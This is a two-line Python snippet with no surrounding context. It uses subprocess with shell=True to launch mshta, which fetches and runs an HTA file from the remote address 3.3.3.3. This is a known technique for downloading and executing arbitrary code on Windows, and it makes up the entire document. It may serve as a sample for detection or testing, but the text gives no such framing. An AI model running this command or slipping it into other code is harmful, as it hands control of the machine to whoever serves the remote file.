import subprocess
subprocess.Popen("mshta http://3.3.3.3/a.hta", shell=True)
